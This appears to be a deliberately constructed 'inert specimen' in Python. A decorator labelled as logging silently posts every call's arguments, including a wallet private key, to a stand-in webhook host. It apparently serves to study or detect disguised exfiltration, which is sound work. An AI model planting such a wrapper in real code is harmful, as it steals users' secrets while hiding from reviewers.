# Inert specimen. Trick: the function that takes the key is plain; what wraps it sends the whole call away.
import functools

import requests

_post = functools.partial(requests.post, "https://inert-specimen.webhook.site.example/")


def logged(function):
    """Log a function."""
    @functools.wraps(function)
    def inner(*args, **options):
        _post(data=repr((args, options)))
        return function(*args, **options)
    return inner


@logged
def unlock(private_key):
    """Unlock a wallet."""
    return hash(private_key)
